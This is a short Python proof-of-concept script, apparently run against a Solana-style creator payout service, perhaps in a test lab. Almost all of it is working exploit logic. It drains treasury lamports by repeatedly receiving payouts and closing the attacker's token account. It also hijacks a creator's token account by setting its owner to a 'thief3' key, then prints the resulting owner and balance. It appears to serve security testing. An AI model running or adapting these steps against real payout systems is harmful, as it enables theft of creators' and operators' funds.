from chainlib import *; from db import q
ids=json.load(open('ids.json')); keys=json.load(open('keys.json'))
Ak=ids['att1']; a=kp('att_w'); T=Pubkey.from_string(C['T'])
def lam(p): return rpc('getBalance',str(p),{'commitment':'confirmed'})['result']['value']
print(pixr('payouts','release','hold:1')); s=pixr('payouts','stops'); print(s)
for i in range(3):
    t0=lam(T); 
    if i: fund(Ak,1)
    for _ in range(15):
        time.sleep(1)
        if str(bal(a.pubkey())).isdigit() and int(bal(a.pubkey()))>0: break
    b=bal(a.pubkey()); t1=lam(T); l0=lam(a.pubkey())
    if not str(b).isdigit(): print('not paid',b); continue
    send([transfer(ata(a.pubkey()),ata(kp('vic_w').pubkey()),a.pubkey(),int(b)),closeacc(ata(a.pubkey()),a.pubkey(),a.pubkey())],a)
    time.sleep(5); print('round',i,'paid',b,'treasury lamports',t1-t0,'attacker lamports',lam(a.pubkey())-l0)
print(pixr('payouts','stops'))
# second ATA-owner case, creator vic6/w new
V6=ids['vic6']; w=kp('w6'); prove(V6,keys['vic6'],w); drop(w.pubkey()); fund(V6,500)
for _ in range(15):
    time.sleep(1)
    if bal(w.pubkey())=='500': break
print('send',send([setowner(ata(w.pubkey()),w.pubkey(),kp('thief3').pubkey())],w)); time.sleep(6)
fund(V6,777); time.sleep(8)
r=base64.b64decode(rpc('getAccountInfo',str(ata(w.pubkey())),{'encoding':'base64'})['result']['value']['data'][0])
print('owner',Pubkey(r[32:64]),'thief3',kp('thief3').pubkey(),'balance',bal(w.pubkey()))
show(req('GET',f'/v1/creators/{V6}/payouts',keys['vic6'])[1])
rc,o=pixr('audit','--full'); print(rc,o[-2600:])
